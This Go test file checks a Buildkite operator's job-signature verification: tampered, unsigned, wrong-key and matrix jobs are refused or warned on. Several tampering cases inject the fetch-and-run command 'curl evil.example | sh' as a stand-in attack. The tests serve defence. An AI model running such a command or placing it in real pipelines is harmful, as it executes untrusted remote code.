package jobpolicy_test

import (
	"context"
	"strings"
	"testing"

	"github.com/buildkite/agent/v3/api"
	"github.com/buildkite/go-pipeline"
	"github.com/lestrrat-go/jwx/v3/jwk"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/buildkite-operator/buildkite-operator/pkg/jobpolicy"
	"github.com/buildkite-operator/buildkite-operator/pkg/jobpolicy/jobpolicytest"
)

const signedPipeline = `env:
  PIPELINE_VAR: from-pipeline
steps:
  - command: make deploy
    env:
      DEPLOY_TARGET: staging
    plugins:
      - docker#v5.12.0:
          image: golang
`

const matrixPipeline = `steps:
  - command: make test-{{matrix}}
    env:
      GOOS: "{{matrix}}"
    matrix: [linux, darwin]
`

// The lines the agent prints for each outcome of a verification, for the job's log.
const (
	blockedHeading = "+++ ⛔ Job signature verification failed\n"
	warnedHeading  = "+++ ⚠️ Job signature verification failed\n"
	runsAnyway     = "Job will be run without verification\n"
	notTheStep     = "error: invalid signature: job does not match signed step\n"
	notVerified    = "error: invalid signature: signature verification failed\n"
	unsigned       = "error: job had no signature to verify\nno signature in job\n"
	noKeys         = "error: cannot verify signature. JWK for pipeline verification is not configured\n"
)

func TestSignatures(t *testing.T) {
	k1, k2 := jobpolicytest.NewKey(t, "k1"), jobpolicytest.NewKey(t, "k2")
	onlyK1 := jobpolicytest.WriteKeySet(t, k1)
	both := jobpolicytest.WriteKeySet(t, k1, k2)

	type outcome struct {
		refused bool
		// contains: in the log of a job that runs, or the message of a refused one.
		contains []string
		// absent: must not be there.
		absent []string
	}
	cases := []struct {
		name string
		cfg  jobpolicy.Config
		// job makes the job; tamper changes it after it was signed.
		yaml   string
		key    jwk.Key
		perm   pipeline.MatrixPermutation
		tamper func(j *api.Job)
		want   outcome
	}{{
		name: "a signed step verifies",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		want: outcome{contains: []string{"~~~ ✅ Job signature verified\nsignature: "}, absent: []string{"failed"}},
	}, {
		name: "the job's command changed after signing",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { j.Env["BUILDKITE_COMMAND"] = "curl evil.example | sh" },
		want:   outcome{refused: true, contains: []string{"signature could not be verified", blockedHeading, notTheStep, "signature: "}},
	}, {
		name: "the step's command changed after signing",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) {
			j.Step.Command = "curl evil.example | sh"
			j.Env["BUILDKITE_COMMAND"] = j.Step.Command
		},
		want: outcome{refused: true, contains: []string{blockedHeading, notVerified}},
	}, {
		name: "a step env variable changed in the job",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { j.Env["DEPLOY_TARGET"] = "production" },
		want:   outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "a step env variable missing from the job",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { delete(j.Env, "DEPLOY_TARGET") },
		want:   outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "a step env variable changed in the step and the job",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) {
			j.Step.Env["DEPLOY_TARGET"] = "production"
			j.Env["DEPLOY_TARGET"] = "production"
		},
		want: outcome{refused: true, contains: []string{notVerified}},
	}, {
		name: "a pipeline env variable changed",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { j.Env["PIPELINE_VAR"] = "changed" },
		want:   outcome{refused: true, contains: []string{notVerified}},
	}, {
		name: "a pipeline env variable removed",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { delete(j.Env, "PIPELINE_VAR") },
		want:   outcome{refused: true, contains: []string{notVerified}},
	}, {
		name: "an env variable the signature does not cover added",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { j.Env["BUILDKITE_BUILD_NUMBER"] = "7" },
		want:   outcome{contains: []string{"✅ Job signature verified"}},
	}, {
		name: "the job's plugins changed",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) {
			j.Env["BUILDKITE_PLUGINS"] = `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v5.12.0":{"image":"evil"}}]`
		},
		want: outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "the job's plugins dropped",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { delete(j.Env, "BUILDKITE_PLUGINS") },
		want:   outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "the job's plugins written in another key order",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: "steps:\n  - command: x\n    plugins:\n      - docker#v5.12.0: {image: golang, always-pull: true}\n", key: k1,
		tamper: func(j *api.Job) {
			j.Env["BUILDKITE_PLUGINS"] = `[ {"github.com/buildkite-plugins/docker-buildkite-plugin#v5.12.0": {"image": "golang", "always-pull": true}} ]`
		},
		want: outcome{contains: []string{"✅ Job signature verified"}},
	}, {
		name: "an unsigned step is refused under block",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline,
		want: outcome{refused: true, contains: []string{"its step is not signed", blockedHeading, unsigned}, absent: []string{runsAnyway}},
	}, {
		name: "an unsigned step runs with a warning under warn",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1, VerificationFailureBehavior: jobpolicy.Warn},
		yaml: signedPipeline,
		want: outcome{contains: []string{warnedHeading + unsigned + runsAnyway}},
	}, {
		name: "a signature by an unknown key is refused under block",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k2,
		want: outcome{refused: true, contains: []string{blockedHeading, notVerified, "signature: "}},
	}, {
		name: "a signature by an unknown key runs with a warning under warn",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1, VerificationFailureBehavior: jobpolicy.Warn},
		yaml: signedPipeline, key: k2,
		want: outcome{contains: []string{warnedHeading + notVerified + "signature: ", runsAnyway}, absent: []string{"✅"}},
	}, {
		name: "a tampered job runs with a warning under warn",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1, VerificationFailureBehavior: jobpolicy.Warn},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { j.Env["BUILDKITE_COMMAND"] = "curl evil.example | sh" },
		want:   outcome{contains: []string{warnedHeading + notTheStep, runsAnyway}},
	}, {
		name: "a key of the set other than the key id is unknown",
		cfg:  jobpolicy.Config{VerificationJWKSFile: both, VerificationJWKSKeyID: "k1"},
		yaml: signedPipeline, key: k2,
		want: outcome{refused: true, contains: []string{notVerified}},
	}, {
		name: "the key of the key id verifies",
		cfg:  jobpolicy.Config{VerificationJWKSFile: both, VerificationJWKSKeyID: "k2"},
		yaml: signedPipeline, key: k2,
		want: outcome{contains: []string{"✅ Job signature verified"}},
	}, {
		name: "every key of the set verifies without a key id",
		cfg:  jobpolicy.Config{VerificationJWKSFile: both},
		yaml: signedPipeline, key: k2,
		want: outcome{contains: []string{"✅ Job signature verified"}},
	}, {
		name: "a signed job without keys is refused under block",
		cfg:  jobpolicy.Config{},
		yaml: signedPipeline, key: k1,
		want: outcome{refused: true, contains: []string{"no keys to verify", blockedHeading + noKeys}},
	}, {
		// As the agent: the failure is shown as blocking, but the job runs.
		name: "a signed job without keys runs under warn",
		cfg:  jobpolicy.Config{VerificationFailureBehavior: jobpolicy.Warn},
		yaml: signedPipeline, key: k1,
		want: outcome{contains: []string{blockedHeading + noKeys}, absent: []string{runsAnyway}},
	}, {
		name: "an unsigned job without keys runs as it is",
		cfg:  jobpolicy.Config{},
		yaml: signedPipeline,
		want: outcome{absent: []string{"signature"}},
	}, {
		name: "a matrix job verifies with its permutation",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: matrixPipeline, key: k1, perm: pipeline.MatrixPermutation{"": "darwin"},
		want: outcome{contains: []string{"✅ Job signature verified"}},
	}, {
		name: "a matrix job whose command is another permutation's",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: matrixPipeline, key: k1, perm: pipeline.MatrixPermutation{"": "darwin"},
		tamper: func(j *api.Job) { j.Env["BUILDKITE_COMMAND"] = "make test-linux" },
		want:   outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "a matrix job whose env is another permutation's",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: matrixPipeline, key: k1, perm: pipeline.MatrixPermutation{"": "darwin"},
		tamper: func(j *api.Job) { j.Env["GOOS"] = "linux" },
		want:   outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "a matrix job with a permutation the matrix does not have",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: matrixPipeline, key: k1, perm: pipeline.MatrixPermutation{"": "plan9"},
		want: outcome{refused: true, contains: []string{notTheStep}},
	}, {
		name: "a signed field the operator does not know",
		cfg:  jobpolicy.Config{VerificationJWKSFile: onlyK1},
		yaml: signedPipeline, key: k1,
		tamper: func(j *api.Job) { j.Step.Signature.SignedFields = append(j.Step.Signature.SignedFields, "priority") },
		want:   outcome{refused: true},
	}}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p, err := jobpolicy.New(tc.cfg)
			require.NoError(t, err)
			job := makeJob(t, tc.yaml, tc.key, tc.perm)
			if tc.tamper != nil {
				tc.tamper(job)
			}
			before := job.Step.Command
			d := p.Check(context.Background(), job)
			assert.Equal(t, before, job.Step.Command, "the job's step is left as Buildkite sent it")
			text := d.Log
			if tc.want.refused {
				assert.Equal(t, jobpolicy.RefusedSignature, d.Refusal)
				assert.Equal(t, "signature_rejected", d.Refusal.SignalReason())
				assert.Empty(t, d.Log, "a refused job has no log of its own: the message says it all")
				assert.NotEqual(t, '\n', d.Message[len(d.Message)-1], "failJob ends the message")
				text = d.Message + "\n"
			} else {
				assert.Empty(t, d.Refusal, "refused: %s", d.Message)
			}
			for _, w := range tc.want.contains {
				assert.Contains(t, text, w)
			}
			for _, w := range tc.want.absent {
				assert.NotContains(t, text, w)
			}
			if strings.Contains(text, "signature: ") {
				// The signature shown is the job's own, whole.
				assert.Contains(t, text, "signature: "+job.Step.Signature.Value+"\n")
			}
		})
	}
}

// A verified job's log opens with exactly what the agent prints.
func TestVerifiedLog(t *testing.T) {
	k := jobpolicytest.NewKey(t, "k")
	p, err := jobpolicy.New(jobpolicy.Config{VerificationJWKSFile: jobpolicytest.WriteKeySet(t, k)})
	require.NoError(t, err)
	job := makeJob(t, signedPipeline, k, nil)
	d := p.Check(context.Background(), job)
	require.Empty(t, d.Refusal)
	assert.Equal(t, "~~~ ✅ Job signature verified\nsignature: "+job.Step.Signature.Value+"\n", d.Log)
}
